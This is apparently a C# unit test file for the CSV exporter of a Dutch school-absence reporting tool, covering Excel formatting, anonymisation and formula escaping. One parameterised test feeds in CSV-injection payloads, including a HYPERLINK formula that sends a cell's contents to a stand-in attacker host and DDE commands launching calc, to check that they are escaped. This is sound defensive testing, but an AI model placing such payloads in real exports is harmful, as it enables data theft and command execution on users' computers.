using System.Globalization;
using System.Text;
using CsvHelper;
using CsvHelper.Configuration;
using VerzuimBot.Digest;
using VerzuimBot.Domain.Digest;
using VerzuimBot.Domain.Identity;
using VerzuimBot.Domain.Profiles;

namespace VerzuimBot.Tests.Digest;

// Issue 9 item 3: CSV for Dutch Excel (UTF-8 with BOM, ';', decimal comma) with the definitions in its header.
public class DigestCsvExporterTests
{
    private static readonly SwvDigest Digest = Sample();

    [Fact]
    public void Export_StartsWithUtf8Bom()
    {
        var bytes = DigestCsvExporter.ToBytes(Digest);
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        Assert.StartsWith("# VerzuimBot overzicht", Encoding.UTF8.GetString(bytes, 3, bytes.Length - 3), StringComparison.Ordinal);
    }

    [Fact]
    public void Export_DefinitionsComeFirst_ThenTheHeaderRow()
    {
        var lines = Lines(Digest);
        var header = lines.IndexOf("Onderdeel;School;Categorie;Waarde");
        Assert.True(header > DigestTexts.Definitions(Digest).Count, "the table starts after the definitions");
        Assert.All(lines.Take(header - 1), line => Assert.Matches("^\"?# ", line));
        Assert.Equal(string.Empty, lines[header - 1]);
        Assert.Contains("# Peildatum: 30-11-2026, 10:00", lines);
        // A definition that holds a ';' is quoted, so Excel keeps it in one cell.
        Assert.Contains(lines, l => l.StartsWith("\"# Doorloopsnelheid: schooldagen", StringComparison.Ordinal));
    }

    [Fact]
    public void Export_SemicolonSeparated_OneRowPerFigure()
    {
        var lines = Lines(Digest);
        Assert.Contains("Afwezig;01AA00;tot 4 weken;2", lines);
        Assert.Contains("Afwezig;01AA00;langer dan 3 maanden;1", lines);
        Assert.Contains("Type;01AA00;5 geoorloofd 4 weken tot 3 maanden;1", lines);
        Assert.Contains("Code;Totaal SWV;oranje;1", lines);
        Assert.Contains("Achterstallig;01AA00;Jeugdarts niet binnen 2 schoolweken uitgenodigd;1", lines);
        Assert.Contains("Vrijstellingen;Totaal SWV;doel (hoogstens);5", lines);
        Assert.Contains("Trend;01AA00;week van 23-11-2026: tot 4 weken;3", lines);
    }

    [Fact]
    public void Export_DutchDecimalComma_EmptyWhenNothingToMeasure()
    {
        var lines = Lines(Digest);
        Assert.Contains("Doorloopsnelheid;01AA00;vanaf eerste verzuimdag: gemiddelde (schooldagen);59,3", lines);
        Assert.Contains("Doorloopsnelheid;01AA00;vanaf eerste verzuimdag: mediaan (schooldagen);45,0", lines);
        Assert.Contains("Doorloopsnelheid;01AA00;vanaf eerste verzuimdag: binnen 3 maanden (%);66,7", lines);
        Assert.Contains("Doorloopsnelheid;01AA00;vanaf thuiszitter: vorige periode mediaan (schooldagen);", lines);
        Assert.Contains("Doorloopsnelheid;01AA00;verandering mediaan t.o.v. vorige periode (schooldagen);20,0", lines);
    }

    [Fact]
    public void Export_QuotesFieldsWithSeparatorOrQuotes()
    {
        var text = Text(Digest with { Thuiszitters = [Entry("Checklist thuiszitter: MDO \"groot\"; met ouders")] }, anonymised: true);
        Assert.Contains("1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;2026-W41;;\"Checklist thuiszitter: MDO \"\"groot\"\"; met ouders\";2026-W45;ja", text, StringComparison.Ordinal);
    }

    [Fact]
    public void Export_ParsesBackWithCsvHelper_FourFieldsPerFigure()
    {
        var records = Records(Text(Digest, anonymised: true));
        var header = records.FindIndex(r => r[0] == "Onderdeel");
        var figures = records.Skip(header + 1).TakeWhile(r => r.Length == 4).ToList();
        Assert.True(figures.Count > 40);
        Assert.All(figures, r => Assert.Contains(r[1], new[] { "01AA00", "Totaal SWV" }));
    }

    [Fact] // domain.md §7/§8: the inspectie gets the list anonymised; the SWV's own list carries ids (never names).
    public void Export_AnonymisedByDefault_IdsOnlyWhenAsked()
    {
        var anonymous = Lines(Digest);
        Assert.Contains("Nr;School;Type;Code;Schooldagen afwezig;Eerste verzuimweek;Regiepersoon;Volgende stap;Uiterlijk (week);Te laat", anonymous);
        Assert.DoesNotContain(anonymous, l => l.Contains("A1;", StringComparison.Ordinal) || l.Contains("staff-zorg-a", StringComparison.Ordinal));

        var named = Text(Digest, anonymised: false);
        Assert.Contains("A1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;05-10-2026;staff-zorg-a;Jeugdarts: consult plannen;04-11-2026;ja", named, StringComparison.Ordinal);
    }

    [Fact] // issue 19 item 9: the inspectie's list carries the ISO week, not the day a child first stayed away.
    public void Export_Anonymised_GivesIsoWeeksInsteadOfDates()
    {
        var entry = Entry("Jeugdarts: consult plannen") with { FirstDayAbsent = new DateOnly(2027, 1, 1) };
        var anonymous = Text(Digest with { Thuiszitters = [entry] }, anonymised: true);

        // 1 January 2027 is a Friday: ISO week 53 of 2026.
        Assert.Contains("1;01AA00;5 geoorloofd 4 weken tot 3 maanden;oranje;36;2026-W53;;Jeugdarts: consult plannen;2026-W45;ja", anonymous, StringComparison.Ordinal);
        Assert.DoesNotContain("01-01-2027", anonymous, StringComparison.Ordinal);
        Assert.DoesNotContain("04-11-2026", anonymous, StringComparison.Ordinal);
    }

    [Theory] // issue 19 item 9: text that Excel would run as a formula (typed by staff into a step or overleg action) is escaped.
    [InlineData("=HYPERLINK(\"https://aanvaller.example/?d=\"&A1;\"klik\")")]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Export_FieldStartingLikeAFormula_IsEscaped_InEveryList(string typed)
    {
        foreach (var anonymised in new[] { true, false })
        {
            var entry = Entry(typed) with { Regiepersoon = new StaffId(typed) };
            var row = Records(Text(Digest with { Thuiszitters = [entry] }, anonymised)).Last(r => r.Length == 10);

            Assert.Equal("'" + typed, row[7]);
            Assert.Equal(anonymised ? string.Empty : "'" + typed, row[6]);
        }
    }

    [Fact] // A plain number is no formula: a faster doorloop (a negative change) stays a number Excel can sum.
    public void Export_NegativeFigure_StaysANumber()
    {
        var figures = Digest.Total with { Doorloop = Digest.Total.Doorloop with { FromFirstDay = new DoorloopStats(2, 20, 20, 1), PreviousFromFirstDay = new DoorloopStats(2, 45, 45, 1) } };
        var lines = Lines(Digest with { Total = figures });

        Assert.Contains("Doorloopsnelheid;Totaal SWV;verandering mediaan t.o.v. vorige periode (schooldagen);-25,0", lines);
    }

    private static List<string[]> Records(string text)
    {
        using var reader = new StringReader(text);
        using var csv = new CsvReader(reader, new CsvConfiguration(CultureInfo.InvariantCulture) { Delimiter = ";", HasHeaderRecord = false, IgnoreBlankLines = false });
        var records = new List<string[]>();
        while (csv.Read())
        {
            records.Add(csv.Parser.Record!);
        }

        return records;
    }

    private static List<string> Lines(SwvDigest digest) => Text(digest, anonymised: true).Split("\r\n").ToList();

    private static string Text(SwvDigest digest, bool anonymised)
    {
        var bytes = DigestCsvExporter.ToBytes(digest, new DigestCsvOptions(anonymised));
        return new UTF8Encoding(false).GetString(bytes, 3, bytes.Length - 3);
    }

    private static ThuiszitterListEntry Entry(string step) =>
        new(new StudentId("A1"), new SchoolId("01AA00"), 5, ThuiszitterCode.Oranje, 36, new DateOnly(2026, 10, 5), new StaffId("staff-zorg-a"), new NextStep(step, new DateOnly(2026, 11, 4), true));

    private static SwvDigest Sample()
    {
        var periods = new DoorloopPeriods(new DateOnly(2026, 11, 9), new DateOnly(2026, 11, 30), new DateOnly(2026, 10, 5), new DateOnly(2026, 11, 8));
        var doorloop = new Doorloopsnelheid(new DoorloopStats(3, 45, 178 / 3d, 2 / 3d), new DoorloopStats(3, 25, 118 / 3d, null), new DoorloopStats(1, 25, 25, 1), DoorloopStats.Empty);
        var figures = new SchoolFigures(
            new SchoolId("01AA00"),
            new BandCounts(2, 1, 1),
            Enumerable.Range(1, 7).ToDictionary(t => t, t => t == 5 ? 1 : 0),
            new Dictionary<ThuiszitterCode, int> { [ThuiszitterCode.Geel] = 2, [ThuiszitterCode.Oranje] = 1, [ThuiszitterCode.Rood] = 1 },
            Dreigend: 1,
            OpenThuiszitterCases: 1,
            ReportedToSwv: 1,
            NewThuiszitters: 0,
            ReturnedToSchool: 1,
            VrijstellingenNew: 1,
            VrijstellingenInForce: 1,
            OverdueSteps.All.ToDictionary(s => s, s => s == OverdueStep.JeugdartsNietBinnen2Weken ? 1 : 0),
            doorloop,
            [new BandCounts(3, 1, 1), new BandCounts(2, 1, 1)]);
        var weeks = new List<SchoolWeek> { new(new DateOnly(2026, 11, 23), new DateOnly(2026, 11, 27)), new(new DateOnly(2026, 11, 30), new DateOnly(2026, 11, 30)) };
        var now = new DateTimeOffset(2026, 11, 30, 10, 0, 0, TimeSpan.FromHours(1));
        return new SwvDigest(now, new DateOnly(2026, 11, 30), now.AddDays(-7), 5, periods, weeks, [figures], figures with { School = null }, [Entry("Jeugdarts: consult plannen")]);
    }
}
